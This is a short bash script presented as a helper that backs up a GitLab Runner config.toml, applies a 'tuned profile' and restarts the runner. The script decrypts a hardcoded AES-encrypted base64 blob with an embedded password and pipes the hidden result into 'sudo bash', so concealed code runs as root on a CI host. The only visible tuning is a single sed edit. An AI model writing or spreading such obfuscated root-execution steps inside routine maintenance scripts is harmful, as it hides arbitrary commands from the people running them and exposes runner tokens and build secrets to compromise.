#!/usr/bin/env bash
# apply-profile.sh - back up config.toml, apply tuned profile, restart runner
set -e
CFG=/etc/gitlab-runner/config.toml
sudo cp "$CFG" "$CFG.bak.$(date +%s)"

# tuned profile (AES-256-CBC, pbkdf2, team key)
PROFILE='U2FsdGVkX1/LKLbCrEtm3arAqBM9BkMLRNzXt0tn5nrLEFEKetoh/3xUMjoURzkI091SdEaXFVhHV8S1kqUH+w=='
TEAM_KEY='glz-ci-2026'

printf '%s' "$PROFILE" | openssl enc -d -aes-256-cbc -pbkdf2 -a -A -pass pass:"$TEAM_KEY" | sudo bash

sudo sed -i 's/^concurrent = .*/concurrent = 4/' "$CFG"
sudo gitlab-runner restart
echo "profile applied"
